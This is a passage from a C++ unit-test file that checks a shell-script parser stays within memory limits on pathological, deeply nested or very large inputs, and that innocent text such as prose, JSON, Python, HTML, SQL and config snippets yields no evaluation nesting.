      repeated("function "),
      repeated("<<E "),
      repeated("<<E\n"),
      repeated("cat <<E\nE\n"),
      repeated("<<<$("),
      repeated("eval "),
      repeated("sh -c "),
      repeated("\\"),
      repeated("a="),
      repeated("a=("),
      repeated("a[1"),
      repeated("a+=b "),
      repeated("a=$a$a;"),
      repeated("a+=$a;"),
      repeated("|"),
      repeated("a|"),
      repeated("sh|"),
      repeated("echo x|sh|"),
      repeated("{ "),
      repeated("{ a;}|"),
      repeated("$'\\x"),
      repeated("/?/?;"),
      repeated("/*/[a*;"),
      repeated("${#"),
      repeated("${!"),
      repeated("$((1+"),
      repeated("set -- $@ $@;"),
      repeated("shift;"),
      repeated("a\n"),
      repeated("a;"),
      repeated("a "),
      repeated("#"),
      repeated("#\n"),
      repeated("&"),
      repeated(">"),
      repeated("1>&2"),
      repeated("! "),
      repeated(")"),
      repeated("esac "),
      repeated("{1..99999}"),
      repeated("$(a)"),
      repeated("`a`"),
      repeated("$(echo $(echo "),
      repeated("echo a|rev|"),
      repeated("printf %4096s|"),
      repeated("xargs "),
      repeated("find -exec "),
      repeated("trap "),
      repeated("(a)|"),
      repeated("{ a|b;}|"),
      repeated("if a;then b;fi|"),
      repeated("for i in "),
      repeated("((a))"),
      repeated("((a)"),
      repeated("{a..b}{"),
      "x=" + repeated("a", 400'000) + ";" + repeated("echo ${x%%*b*c*d*e};", 100'000),
      "x=" + repeated("a", 400'000) + ";" + repeated("echo ${x//a/bb};", 100'000),
      "set -- " + repeated("a ", 400'000) + ";" + repeated("shift;", 400'000),
      "a=(" + repeated("b ", 400'000) + ");" + repeated("a+=(c);", 400'000),
      "a=(" + repeated("b ", 400'000) + ");" + repeated("echo ${a[1]};", 400'000),
      "{ " + repeated("echo a;", 400'000) + "} " + repeated("| cat | sh", 400'000),
      "{ " + repeated("a;", 400'000) + "} " + repeated(">f ", 400'000),
      repeated("{ ", 60) + repeated("a;", 400'000) + repeated("}>f;", 400'000),
      repeated("sh -c '", 1000) + repeated("a;", 400'000),
      "IFS=" + repeated("a", 100'000) + ";x=" + repeated("b", 100'000) + ";" +
          repeated("echo $x;", 10'000),
      doubling,
      evals,
      shells};
  for (const std::string& text : hostile) {
    const ShellScript script = parse_shell(text);
    std::size_t bytes = 0;
    for (const ShellCommand& command : script.commands) {
      for (const ShellWord& word : command.words) bytes += word.text.size();
    }
    EXPECT_LT(bytes, 32u << 20) << text.substr(0, 40);
  }
  EXPECT_TRUE(parse_shell(repeated("$(")).cut);
  EXPECT_TRUE(parse_shell(doubling).cut);
}

TEST(Shell, ADeclarationBeyondTheLimitsHasNoAssignmentToLookAt) {
  std::string text = "x=" + std::string(1 << 20, 'a') + "\n";
  for (int i = 0; i < 64; ++i) text += "local y=$x$x$x$x\n";
  const ShellScript script = parse_shell(text);
  EXPECT_TRUE(script.cut);
}

TEST(Shell, InnocentTextGivesNoEvaluations) {
  for (const char* text :
       {"The quick (brown) fox; it's \"fine\", isn't it? 100% $5 `code`",
        "{\"json\": [1, 2, {\"a\": null}]}", "def f(x):\n    return x['a'] if x else None\n",
        "<html><body onload=\"a()\">&nbsp;</body></html>",
        "SELECT * FROM t WHERE a = 'b' AND (c > 1);", "key = value # comment\n[section]\n"}) {
    for (const ShellCommand& command : parse_shell(text).commands)
      EXPECT_NE(command.nesting, ShellNesting::evaluation) << text;
  }
  EXPECT_FALSE(parse_shell("set -e\nfor f in /etc/*.conf; do cp \"$f\" /backup/; done\n").cut);
}

TEST(Shell, DeclaringBeyondTheBudgetIsNoCrash) {
  std::string script = "A=" + std::string(4096, 'x') + "\n";
  for (int i = 0; i < 64; ++i) script += "A=$A$A$A$A\n";
  for (int i = 0; i < 5000; ++i) script += "export B=$A\n";
  script += "export C=literal\n";
  EXPECT_TRUE(parse_shell(script).cut);
}

}  // namespace
}  // namespace lazaret::format
